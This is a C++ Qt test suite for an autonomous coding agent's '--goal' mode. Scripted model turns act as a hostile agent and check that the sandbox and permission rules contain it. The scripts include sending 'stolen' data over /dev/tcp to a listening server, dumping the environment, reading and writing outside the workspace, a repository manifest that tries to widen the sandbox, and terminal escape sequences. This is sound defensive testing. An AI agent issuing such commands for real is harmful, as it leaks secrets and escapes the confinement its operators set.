// `spettro --goal` with the scripted model: what it does, how it ends, what it says of itself.

#include "tests/support/HostServer.h"
#include "tests/support/HttpTestServer.h"
#include "tests/support/OperatorHome.h"
#include "tests/support/Processes.h"
#include "tests/support/ToolCalls.h"

#include <QDir>
#include <QDirIterator>
#include <QElapsedTimer>
#include <QTest>

#include <csignal>

using namespace spettro::test;

namespace {

const QStringList Tour{"--goal", "Make the failing test pass and commit that", "--provider", "scripted"};
const QStringList Unbounded{"--sandbox", "off", "--permission", "yolo"};

constexpr const char *Key = "-----BEGIN TEST KEY----- 4711";

/// The last line of a run with `--json`; null where it is no JSON.
Json lastEvent(const RunResult &result)
{
    return Json::parse(result.output.trimmed().split('\n').last().toStdString(), nullptr, false);
}

} // namespace

class tst_Goal : public QObject
{
    Q_OBJECT

private slots:
    void init();
    void theTour();
    void theTourWithoutBounds();
    void ends_data();
    void ends();
    void wrongUse_data();
    void wrongUse();
    void notEnforceable();
    void repositoryIsHostile();
    void interrupted_data();
    void interrupted();
    void timeIsUp();
    void nobodyToAsk();
    void deniedByTheManifest();
    void standardInputIsLeftAlone();
    void quiet();
    void events();
    void modelTextCannotMoveTheTerminal();
    void modelBehindAServer_data();
    void modelBehindAServer();
    void serverThatRefuses();

private:
    RunResult goal(const QStringList &flags, RunOptions options = {}) const;
    /// Runs a script with a policy.
    RunResult play(const QByteArray &script, const QStringList &flags = WorkspaceOnly) const;
    QString scriptFile(const QByteArray &script) const;
    void prepareTour(const HostServer &server) const;

    std::unique_ptr<OperatorHome> m_home;
};

void tst_Goal::init()
{
    m_home = std::make_unique<OperatorHome>();
}

RunResult tst_Goal::goal(const QStringList &flags, RunOptions options) const
{
    options.environment = m_home->environment();
    options.environment.remove("BASH_ENV"); // unconfined, it would be taken as it is
    options.folder = m_home->workspace();
    options.timeLimit = 120'000;
    return run(QStringList{spettroPath()} + flags, options);
}

QString tst_Goal::scriptFile(const QByteArray &script) const
{
    const QString path = m_home->fixture().folder() + "/script.toml";
    writeFile(path, script);
    return path;
}

RunResult tst_Goal::play(const QByteArray &script, const QStringList &flags) const
{
    return goal(QStringList{"--goal", "x", "--provider", "scripted", "--model", scriptFile(script)} + flags);
}

void tst_Goal::prepareTour(const HostServer &server) const
{
    QDirIterator files(":/project", QDir::Files | QDir::Hidden);
    while (files.hasNext()) {
        const QString path = files.next();
        writeFile(m_home->workspace(files.fileName()), contentOf(path));
    }
    writeFile(m_home->workspace("port"), QByteArray::number(server.port()));
    writeFile(m_home->folder() + "/key", Key);
    RunOptions here;
    here.folder = m_home->workspace();
    here.environment = m_home->environment();
    const RunResult made =
        run(shell("git init -q && git config user.email t@example.invalid && git config user.name t"
                  " && git add . && git commit -qm first"),
            here);
    QVERIFY2(made.exitCode == 0, describe(made));
}

/// Everything is judged by what the host has afterwards.
void tst_Goal::theTour()
{
    QVERIFY2(missingPackages({"git", "make", "g++"}).isEmpty(), "install: git make g++");
    const HostServer server(HostServer::Kind::Tcp4);
    prepareTour(server);
    const RunResult result = goal(Tour + WorkspaceOnly);
    QVERIFY2(result.exitCode == 0, describe(result));
    QVERIFY2(result.output.contains("scripted model (the tour)"), describe(result));
    QVERIFY2(result.output.contains("\ncomplete: "), describe(result));
    QVERIFY2(result.output.contains("files changed:\n  words.cpp\n"), describe(result));

    RunOptions here;
    here.folder = m_home->workspace();
    const RunResult tests = run({"make", "-B", "test"}, here);
    QVERIFY2(tests.exitCode == 0 && tests.output.contains("0 failed"), describe(tests));
    const RunResult log = run({"git", "log", "--format=%s"}, here);
    QCOMPARE(log.output, QByteArray("Count words, not spaces\nfirst\n"));

    QVERIFY(!exists(m_home->folder() + "/beside"));
    QVERIFY(!exists(m_home->workspace(".git/hooks/post-checkout")));
    QVERIFY2(!result.output.contains(Key), describe(result));
    QVERIFY2(server.isSilent(), server.received());
}

/// The control: the same script without bounds does all that was refused, but for the hook, which no file tool may write.
void tst_Goal::theTourWithoutBounds()
{
    const HostServer server(HostServer::Kind::Tcp4);
    prepareTour(server);
    const RunResult result = goal(Tour + Unbounded + QStringList{"--json"});
    QVERIFY2(result.exitCode == 0, describe(result));
    QCOMPARE(contentOf(m_home->folder() + "/beside"), QByteArray("x\n"));
    QVERIFY2(result.output.contains(Key), describe(result));
    QVERIFY2(server.hears("stolen"), describe(result));
    QVERIFY(!exists(m_home->workspace(".git/hooks/post-checkout")));
}

void tst_Goal::ends_data()
{
    QTest::addColumn<QByteArray>("script");
    QTest::addColumn<QStringList>("flags");
    QTest::addColumn<int>("exitCode");
    QTest::addColumn<QString>("result");
    QTest::addColumn<QString>("message");
    QTest::addColumn<int>("iterations");
    const QByteArray complete =
        "[[turn]]\ncalls = [{ tool = 'goal-complete', input = { summary = 'all done' } }]\n";
    const QByteArray talk = "[[turn]]\nsay = 'Waiting for the build.'\n";
    QByteArray writes;
    for (int count = 0; count < 6; ++count) {
        const QByteArray number = QByteArray::number(count);
        writes += "[[turn]]\ncalls = [{ tool = 'bash', input = { command = 'echo " + number + " >file' } }]\n"
                  + talk;
    }
    QByteArray fails;
    for (int count = 0; count < 20; ++count) {
        fails += "[[turn]]\nsay = 'let me try again'\ncalls = [{ tool = 'file-read', input = { path = 'none' "
                 "} }]\n";
    }
    const auto row = [](const char *name, const QByteArray &script, const QStringList &flags, int exitCode,
                        const char *result, const char *message, int iterations) {
        QTest::newRow(name) << script << flags << exitCode << QString(result) << QString(message)
                            << iterations;
    };
    row("complete", complete, {}, 0, "complete", "all done", 1);
    row("complete at last", talk + writes + complete, {}, 0, "complete", "all done", 8);
    row("only talks", talk + talk + talk + talk + talk + talk, {}, 1, "stalled",
        "nothing in the project changed", 3);
    row("works on", writes, {"--max-iterations", "4"}, 1, "limit reached", "the limit of 4 iterations", 4);
    row("circles", fails + complete, {}, 1, "failed", "file-read was called 5 times", 1);
    row("commits count as work",
        "[[turn]]\ncalls = [{ tool = 'bash', input = { command = 'git init -q . && git -c user.name=t -c "
        "user.email=t@t "
        "commit -q --allow-empty -m 1' } }]\n"
            + talk
            + "[[turn]]\ncalls = [{ tool = 'bash', input = { command = 'git -c user.name=t -c user.email=t@t "
              "commit -q "
              "--allow-empty -m 2' } }]\n"
            + talk + complete,
        {}, 0, "complete", "all done", 3);
}

void tst_Goal::ends()
{
    QFETCH(QByteArray, script);
    QFETCH(QStringList, flags);
    QFETCH(int, exitCode);
    QFETCH(QString, result);
    QFETCH(QString, message);
    QFETCH(int, iterations);
    const RunResult ran = play(script, WorkspaceOnly + flags + QStringList{"--json"});
    QVERIFY2(ran.exitCode == exitCode, describe(ran));
    const Json end = lastEvent(ran);
    QVERIFY2(end.is_object() && end["event"] == "end", describe(ran));
    QVERIFY2(end["result"] == result.toStdString(), describe(ran));
    QVERIFY2(QString::fromStdString(end["message"]).contains(message), describe(ran));
    QVERIFY2(end["iterations"] == iterations, describe(ran));
    QCOMPARE(ran.errors, QByteArray());
}

void tst_Goal::wrongUse_data()
{
    QTest::addColumn<QStringList>("flags");
    QTest::addColumn<QString>("words");
    const QStringList scripted{"--provider", "scripted"};
    QTest::newRow("empty goal") << QStringList{"--goal", " "} + scripted + WorkspaceOnly << "--goal";
    QTest::newRow("nobody to work") << QStringList{"--goal", "x"} + WorkspaceOnly << "--provider";
    QTest::newRow("unknown provider")
        << QStringList{"--goal", "x", "--provider", "hal"} + WorkspaceOnly << "--provider";
    QTest::newRow("no bounds") << QStringList{"--goal", "x"} + scripted << "--permission yolo";
    QTest::newRow("no bounds, said") << QStringList{"--goal", "x", "--sandbox", "off"} + scripted
                                     << "--permission yolo";
    QTest::newRow("no script") << Tour + QStringList{"--model", "/no/such.toml"} + WorkspaceOnly
                               << "/no/such.toml";
    QTest::newRow("no model") << QStringList{"--goal", "x", "--provider", "ollama"} + WorkspaceOnly
                              << "--model";
    QTest::newRow("no key") << QStringList{"--goal", "x", "--provider", "anthropic", "--model", "m"}
                                   + WorkspaceOnly
                            << "ANTHROPIC_API_KEY";
    QTest::newRow("no address") << QStringList{"--goal",  "x", "--provider", "ollama",
                                               "--model", "m", "--base-url", "host"}
                                       + WorkspaceOnly
                                << "--base-url";
    QTest::newRow("iterations") << Tour + QStringList{"--max-iterations", "0"} + WorkspaceOnly
                                << "--max-iterations";
    QTest::newRow("command behind --") << Tour + WorkspaceOnly + QStringList{"--", "ls"} << "exec";
    QTest::newRow("nothing") << QStringList{} << "--goal";
}

void tst_Goal::wrongUse()
{
    QFETCH(QStringList, flags);
    QFETCH(QString, words);
    const RunResult result = goal(flags);
    QVERIFY2(result.exitCode == 2, describe(result));
    QVERIFY2(result.errors.contains(words.toUtf8()), describe(result));
    QVERIFY2(result.output.isEmpty(), describe(result));
}

void tst_Goal::notEnforceable()
{
    const RunResult result = goal(Tour + WorkspaceOnly + QStringList{"--test-landlock-abi", "0"});
    QVERIFY2(result.exitCode == 126, describe(result));
    QVERIFY2(result.output.isEmpty() && result.errors.contains("write-roots"), describe(result));
}

/// A manifest that comes with a repository widens nothing by itself.
void tst_Goal::repositoryIsHostile()
{
    writeFile(m_home->workspace("spettro.agents.toml"),
              "version = 1\n[runtime]\nsandbox_mode = 'workspace-write'\nsandbox_allow_dirs = ['..']\n");
    const RunResult result = goal(Tour);
    QVERIFY2(result.exitCode == 2, describe(result));
    QVERIFY2(result.errors.contains("sandbox_allow_dirs"), describe(result));
}

void tst_Goal::interrupted_data()
{
    QTest::addColumn<int>("signal");
    QTest::newRow("SIGINT") << SIGINT;
    QTest::newRow("SIGTERM") << SIGTERM;
}

void tst_Goal::interrupted()
{
    QFETCH(int, signal);
    const QByteArray duration = uniqueDuration();
    QProcess process;
    process.setProcessEnvironment(m_home->environment());
    process.setWorkingDirectory(m_home->workspace());
    process.start(
        spettroPath(),
        QStringList{
            "--goal", "x", "--provider", "scripted", "--json", "--model",
            scriptFile(
                "[[turn]]\ncalls = [{ tool = 'bash', input = { command = 'setsid sleep " + duration
                + " & sleep " + duration
                + "' } }]\n[[turn]]\ncalls = [{ tool = 'bash', input = { command = 'touch PWN' } }]\n")}
            + WorkspaceOnly);
    QTRY_COMPARE_WITH_TIMEOUT(processesWith("sleep" + QByteArray(1, '\0') + duration).size(), 2, 30'000);
    ::kill(static_cast<pid_t>(process.processId()), signal);
    QVERIFY(process.waitForFinished(10'000));
    QCOMPARE(process.exitStatus(), QProcess::NormalExit);
    QCOMPARE(process.exitCode(), 1);
    const Json end = Json::parse(process.readAllStandardOutput().trimmed().split('\n').last().toStdString());
    QCOMPARE(QString::fromStdString(end["result"]), QString("interrupted"));
    QVERIFY(processesWith(duration).isEmpty());
    QVERIFY(!exists(m_home->workspace("PWN")));
}

void tst_Goal::timeIsUp()
{
    const QByteArray duration = uniqueDuration();
    const RunResult result =
        play("[[turn]]\ncalls = [{ tool = 'bash', input = { command = 'sleep " + duration + "' } }]\n",
             WorkspaceOnly + QStringList{"--max-minutes", "0.02", "--json"});
    QVERIFY2(result.exitCode == 1, describe(result));
    QVERIFY2(lastEvent(result)["result"] == "limit reached", describe(result));
    QVERIFY2(lastEvent(result)["message"] == "the limit of 0.02 minutes", describe(result));
    QVERIFY(processesWith(duration).isEmpty());
}

/// What would have to be asked is refused, and the model is told.
void tst_Goal::nobodyToAsk()
{
    const QByteArray script = "[[turn]]\ncalls = [{ tool = 'bash', input = { command = 'touch PWN' } }]\n";
    const RunResult result = play(script, WorkspaceOnly + QStringList{"--permission", "ask-first", "--json"});
    QVERIFY2(result.exitCode == 1, describe(result));
    QVERIFY(!exists(m_home->workspace("PWN")));
    QVERIFY2(result.output.contains(R"("ok":false)"), describe(result));

    const RunResult control = play(script, WorkspaceOnly);
    QVERIFY2(exists(m_home->workspace("PWN")), describe(control));
}

void tst_Goal::deniedByTheManifest()
{
    writeFile(m_home->workspace("spettro.agents.toml"),
              "version = 1\n[runtime]\npermission_rules = [{ permission = 'bash', pattern = 'touch *', "
              "action = 'deny' }]\n");
    const RunResult result =
        play("[[turn]]\ncalls = [{ tool = 'bash', input = { command = 'touch PWN' } }]\n",
             WorkspaceOnly + QStringList{"--permission", "yolo"});
    QVERIFY2(result.exitCode == 1, describe(result));
    QVERIFY(!exists(m_home->workspace("PWN")));
}

void tst_Goal::standardInputIsLeftAlone()
{
    QProcess process;
    process.setProcessEnvironment(m_home->environment());
    process.setWorkingDirectory(m_home->workspace());
    process.start(
        spettroPath(),
        QStringList{"--goal", "x", "--provider", "scripted", "--model",
                    scriptFile("[[turn]]\ncalls = [{ tool = 'bash', input = { command = 'cat; read x; "
                               "echo \"got $x\"' } }, { tool = 'goal-complete', input = { summary = "
                               "'x' } }]\n")}
            + WorkspaceOnly);
    QVERIFY(process.waitForStarted());
    QVERIFY(process.waitForFinished(60'000)); // its standard input stays open and silent
    QCOMPARE(process.exitCode(), 0);
}

void tst_Goal::quiet()
{
    const RunResult result =
        play("[[turn]]\nsay = 'chatter'\ncalls = [{ tool = 'goal-complete', input = { summary = 'fine' "
             "} }]\n",
             WorkspaceOnly + QStringList{"--quiet"});
    QVERIFY2(result.exitCode == 0, describe(result));
    QVERIFY2(result.output.startsWith("complete: fine\n1 iteration, "), describe(result));
    QVERIFY2(!result.output.contains("chatter"), describe(result));
}

void tst_Goal::events()
{
    const RunResult result =
        play("[[turn]]\nsay = 'I write.'\ncalls = [{ tool = 'file-write', input = { path = 'a', content = "
             "'x' } }, { tool = 'file-read', input = { path = '../outside/canary' } }]\n"
             "[[turn]]\ncalls = [{ tool = 'goal-complete', input = { summary = 'fine' } }]\n",
             WorkspaceOnly + QStringList{"--json"});
    QVERIFY2(result.exitCode == 0, describe(result));
    QStringList names;
    for (const QByteArray &line : result.output.trimmed().split('\n')) {
        const Json event = Json::parse(line.toStdString(), nullptr, false);
        QVERIFY2(event.is_object(), line);
        names.append(QString::fromStdString(event["event"]));
        if (names.last() == "call") {
            // What the model reads tells it nothing of its bounds.
            const QByteArray text = QByteArray::fromStdString(event["result"].dump()).toLower();
            for (const char *word : {"sandbox", "landlock", "policy", "confine", "seccomp"}) {
                QVERIFY2(!text.contains(word), text);
            }
        }
    }
    QCOMPARE(names, (QStringList{"start", "iteration", "text", "request", "text", "call-start", "call",
                                 "call-start", "call", "request", "call-start", "call", "end"}));
    QVERIFY2(lastEvent(result)["changed_files"] == Json::array({"a"}), describe(result));
}

void tst_Goal::modelTextCannotMoveTheTerminal()
{
    const RunResult result =
        play("[[turn]]\nsay = \"a\\u001b[2Jb\\u001b]52;c;QQ==\\u0007c\"\ncalls = [{ tool = 'bash', input = { "
             "command = \"printf '\\\\033[2J'; exit 3 #\\u001b[2K\" } }, { tool = 'goal-complete', input = { "
             "summary = \"x\\u001b[2J\" } }]\n");
    QVERIFY2(result.exitCode == 0, describe(result));
    QVERIFY2(!result.output.contains('\x1b') && !result.output.contains('\x07'), describe(result));
    QVERIFY2(result.output.contains("abc"), describe(result));
}

void tst_Goal::modelBehindAServer_data()
{
    QTest::addColumn<QStringList>("flags");
    QTest::addColumn<bool>("isBounded");
    QTest::newRow("without a network for commands") << WorkspaceOnly << true;
    QTest::newRow("without bounds") << Unbounded << false;
}

/// The model is reached though its commands reach nothing; they do not see its key, and it hears nothing of its bounds.
void tst_Goal::modelBehindAServer()
{
    QFETCH(QStringList, flags);
    QFETCH(bool, isBounded);
    const HostServer stranger(HostServer::Kind::Tcp4);
    const auto calling = [](const char *id, const char *tool, const Json &input) {
        Json call;
        call["index"] = 0;
        call["id"] = id;
        call["function"] = {{"name", tool}, {"arguments", input.dump()}};
        Json choice;
        choice["index"] = 0;
        choice["delta"]["tool_calls"] = Json::array({call});
        choice["finish_reason"] = "tool_calls";
        Json event;
        event["choices"] = Json::array({choice});
        event["usage"] = {{"prompt_tokens", 100}, {"completion_tokens", 10}};
        return QByteArray(
                   "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\ndata: ")
               + QByteArray::fromStdString(event.dump()) + "\n\ndata: [DONE]\n\n";
    };
    QByteArrayList answers{
        calling("a", "bash", {{"command", "env >environment; echo x >../outside/new; true"}}),
        calling("b", "bash",
                {{"command", "echo stolen >/dev/tcp/127.0.0.1/" + std::to_string(stranger.port())}}),
        calling("c", "file-read", {{"path", "../outside/canary"}}),
        calling("d", "goal-complete", {{"summary", "fine"}}),
    };
    HttpTestServer server([&answers](QTcpSocket *socket) {
        socket->write(answers.takeFirst());
        socket->disconnectFromHost();
    });
    QProcess process;
    QProcessEnvironment environment = m_home->environment();
    environment.remove("BASH_ENV");
    environment.insert("OPENAI_API_KEY", "sk-TESTKEY123");
    process.setProcessEnvironment(environment);
    process.setWorkingDirectory(m_home->workspace());
    process.start(spettroPath(), QStringList{"--goal", "look around", "--provider", "openai", "--model", "m",
                                             "--base-url", server.url().toString(), "--json"}
                                     + flags);
    QVERIFY(process.waitForStarted());
    QVERIFY(QTest::qWaitFor([&] { return process.state() == QProcess::NotRunning; }, 60'000));
    const QByteArray output = process.readAllStandardOutput() + process.readAllStandardError();
    QVERIFY2(process.exitCode() == 0, output);
    QCOMPARE(server.requests.size(), 4);
    for (const QByteArray &request : server.requests) {
        QVERIFY2(request.contains("Authorization: Bearer sk-TESTKEY123"), request);
        const QByteArray text = request.toLower();
        for (const char *word : {"sandbox", "landlock", "policy", "confine", "seccomp"}) {
            QVERIFY2(!text.contains(word), request);
        }
    }
    QVERIFY2(output.contains(R"("input":400)"), output);
    QVERIFY2(!output.contains("TESTKEY123"), output);
    const QByteArray seen = contentOf(m_home->workspace("environment"));
    QVERIFY2(seen.contains("PATH=") && !seen.contains("TESTKEY123"), seen);
    QCOMPARE(exists(m_home->fixture().outside("new")), !isBounded);
    QVERIFY2(isBounded ? stranger.isSilent() : stranger.hears("stolen"), stranger.received());
}

void tst_Goal::serverThatRefuses()
{
    HttpTestServer server(says("HTTP/1.1 401 No\r\nConnection: close\r\n\r\n"
                               R"({"error":{"message":"sk-TESTKEY123 is no key of this one"}})"));
    QProcess process;
    QProcessEnvironment environment = m_home->environment();
    environment.insert("OPENAI_API_KEY", "sk-TESTKEY123");
    process.setProcessEnvironment(environment);
    process.setWorkingDirectory(m_home->workspace());
    process.start(spettroPath(), QStringList{"--goal", "x", "--provider", "openai", "--model", "m",
                                             "--base-url", server.url().toString()}
                                     + WorkspaceOnly);
    QVERIFY(process.waitForStarted());
    QVERIFY(QTest::qWaitFor([&] { return process.state() == QProcess::NotRunning; }, 60'000));
    const QByteArray output = process.readAllStandardOutput() + process.readAllStandardError();
    QCOMPARE(process.exitCode(), 1);
    QVERIFY2(output.contains("failed: ") && output.contains("is no key of this one"), output);
    QVERIFY2(!output.contains("TESTKEY123"), output);
    QCOMPARE(server.requests.size(), 1);
}

QTEST_GUILESS_MAIN(tst_Goal)

#include "tst_goal.moc"
